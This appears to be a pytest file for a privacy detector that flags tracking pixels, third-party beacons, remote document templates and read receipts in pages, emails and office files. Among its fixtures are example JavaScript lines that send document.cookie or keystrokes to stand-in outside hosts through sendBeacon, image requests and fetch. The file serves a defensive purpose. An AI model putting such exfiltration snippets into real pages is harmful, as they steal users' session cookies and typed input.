import pytest

from clausewise.detect.beacon import Beacon
from clausewise.detect.cascade import Cascade
from clausewise.extract import Extract, Header, Link, Role, Script, Trick
from clausewise.model import Medium, Part
from clausewise.parse.opening import opened
from clausewise.ports import Inspector
from tests.pages import cases
from tests.parse.stratagems import FORMATS
from tests.small import REGISTER

BEACON = Beacon(REGISTER)
PIXEL = "https://t.stranger.example/o.gif?u=3dd1adda6710db18"


def seen(*links, medium=Medium.PAGE, **more):
    (signals,) = BEACON.inspect([Extract(Part(medium), links=links, **more)])
    return {one.name: one for one in signals}


def tiny(url, **more):
    return Link(url, Role.IMAGE, path="html > body > img", width=1, height=1, **more)


def test_beacon_is_an_inspector_when_the_cascade_asks():
    assert isinstance(BEACON, Inspector)
    assert Cascade([BEACON]).inspectors == (BEACON,)


def test_pixel_is_shown_where_it_stands_when_a_stranger_serves_it():
    spot = seen(tiny(PIXEL, rule="width=1 height=1"), inside="lettre.eml")["beacon.pixel"].evidence[0]
    assert (spot.place, spot.rule, spot.excerpt) == ("lettre.eml > html > body > img", "width=1 height=1", PIXEL)
    assert spot.sense == "unseen/token"


@pytest.mark.parametrize(
    "url", ["https://img.shop.example/p.gif?u=3dd1adda6710db18", "/p.gif", "data:image/gif;base64,R0lG", "cid:a"]
)
def test_nothing_is_seen_when_the_operator_or_the_part_itself_serves(url):
    assert seen(tiny(url)) == {}


def test_own_base_excuses_less_when_what_it_serves_names_a_person():
    base = "https://www.maya.example/"
    assert "beacon.pixel" not in seen(tiny("https://www.maya.example/spacer.gif"), base=base)
    assert "beacon.pixel" not in seen(tiny("https://stats.maya.example/matomo.php?idsite=3&rec=1"), base=base)
    told = seen(tiny("https://t.maya.example/o?e=lea%40mail.example"), base=base)["beacon.pixel"]
    assert 0.5 <= told.score < 0.8
    assert told.evidence[0].sense.startswith("own_host/")


def test_code_is_read_when_it_calls_a_stranger():
    scripts = (Script("navigator.sendBeacon('https://stranger.example/c', document.cookie)", "html > body > script"),)
    call = Link("https://stranger.example/c", Role.CALL, path="html > body > script")
    (spot,) = seen(call, scripts=scripts)["beacon.callback"].evidence
    assert (spot.sense, spot.place) == ("send_beacon/secret", "html > body > script")
    own = (Script("navigator.sendBeacon('https://www.shop.example/c', document.cookie)"),)
    assert seen(scripts=own) == {}


def test_counting_visits_is_no_beacon_when_a_known_counter_does_it():
    loader = "var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtm.js?id='+i"
    tag = Link("https://www.googletagmanager.com/gtag/js?id=G-ABCDE12345", Role.SCRIPT)
    assert all(one.score < 0.5 for one in seen(tag, scripts=(Script(loader),)).values())


@pytest.mark.parametrize(
    ("url", "sense", "least"),
    [
        ("https://us7.list-manage.com/track/open.php?u=1&id=2&e=3", "open/Mailchimp", 0.85),
        ("https://canarytokens.com/traffic/a1b2/post.jsp", "logger/Canarytokens", 0.9),
        ("https://www.facebook.com/tr?id=1234567890123&ev=PageView&noscript=1", "advertising/Meta Pixel", 0.3),
    ],
)
def test_known_tracker_is_named_when_it_is_loaded(url, sense, least):
    told = seen(tiny(url), inside="html")["beacon.tracker"]
    assert told.evidence[0].sense == sense
    assert told.score >= least


def test_parameter_weighs_little_when_a_link_bears_whose_click_it_is():
    links = [
        Link("https://shop.stranger.example/?utm_source=infolettre&fbclid=IwAR0a"),
        Link("https://shop.stranger.example/?mc_eid=3dd1adda67"),
        Link("https://shop.stranger.example/desabonnement?mc_eid=1", Role.UNSUBSCRIBE),
    ]
    told = seen(*links)["beacon.parameter"]
    assert told.score < 0.5
    assert [one.sense for one in told.evidence] == ["recipient_id/mc_eid", "click_id/fbclid", "campaign/utm_source"]


def test_receipt_weighs_more_when_it_goes_to_somebody_else_than_the_sender():
    headers = (Header("from", "Léa <lea@maya.example>"),)
    own, other = (Link(f"mailto:{one}", Role.RECEIPT) for one in ("lea@maya.example", "vu@stranger.example"))
    assert seen(own, medium=Medium.EMAIL, headers=headers)["beacon.remote"].score < 0.5
    assert seen(other, medium=Medium.EMAIL, headers=headers)["beacon.remote"].score >= 0.5


def test_template_is_told_when_a_document_fetches_it_from_a_stranger():
    link = Link("https://stranger.example/a.dotm", Role.TEMPLATE, path="word/_rels/settings.xml.rels")
    assert seen(link, medium=Medium.DOCUMENT)["beacon.remote"].score >= 0.9
    assert seen(Link("https://www.shop.example/a.dotm", Role.TEMPLATE), medium=Medium.DOCUMENT) == {}


def test_links_that_people_follow_are_no_beacons_when_they_are_plain():
    assert seen(Link("https://stranger.example/article"), Link("https://stranger.example/p?id=12345678")) == {}
    assert seen(Link("https://grabify.link/A1B2C3"))["beacon.tracker"].score >= 0.5


def test_beacons_of_the_pages_are_found_and_honest_ones_let_be_when_all_are_read():
    read = [(one, seen_top(one.html)) for one in cases()]
    watching = [top for one, top in read if one.beacons]
    innocent = [top for one, top in read if not one.beacons]
    recall = sum(top >= 0.5 for top in watching) / len(watching)
    accused = sum(top >= 0.5 for top in innocent) / len(innocent)
    print(f"recall {recall:.3f} of {len(watching)}, accused {accused:.3f} of {len(innocent)}")  # noqa: T201 - the measure is to be read
    assert recall >= 0.95
    assert accused <= 0.02


@pytest.mark.parametrize("form", FORMATS.values(), ids=FORMATS)
def test_documents_are_told_when_they_reach_out_by_themselves(form):
    for name, (make, _) in form.REACHES.items():
        assert document_top(make("https://track.stranger.example/doc")) >= 0.5, name
    for name, make in form.STAYS.items():
        assert document_top(make("https://track.stranger.example/doc")) < 0.5, name


def document_top(data):
    signals = BEACON.inspect(opened(Part(Medium.DOCUMENT, data=data)))
    return max((one.score for told in signals for one in told), default=0.0)


def seen_top(html):
    signals = BEACON.inspect(opened(Part(Medium.PAGE, text=html)))
    return max((one.score for told in signals for one in told), default=0.0)


MATOMO = (
    "var u='https://stats.bakery.example/';_paq.push(['setTrackerUrl',u+'matomo.php']);var g=d.createElement('script');"
)


def test_own_counter_is_named_and_not_held_when_it_only_counts_visits():
    told = seen(scripts=(Script(MATOMO + "g.src=u+'matomo.js'"),))
    assert set(told) == {"beacon.tracker"}
    assert told["beacon.tracker"].evidence[0].sense == "analytics/Matomo"
    noscript = seen(tiny("https://stats.bakery.example/matomo.php?idsite=1&rec=1", trick=Trick.NOSCRIPT))
    assert noscript["beacon.pixel"].score < 0.5


@pytest.mark.parametrize(
    "code",
    [
        "new Image().src='https://stats.bakery.example/matomo.php?c='+document.cookie",
        MATOMO + "fetch(u+'matomo.php?k='+event.key)",
        "var u='https://stats.bakery.example/';navigator.sendBeacon(u+'o.php',document.cookie)",
    ],
)
def test_counter_is_no_excuse_when_it_carries_off_a_secret(code):
    assert seen(scripts=(Script(code),))["beacon.callback"].score >= 0.9


def test_counter_is_no_excuse_when_its_picture_bears_a_persons_address():
    told = seen(tiny("https://stats.bakery.example/matomo.php?e=lea%40mail.example"))
    assert told["beacon.pixel"].score >= 0.95
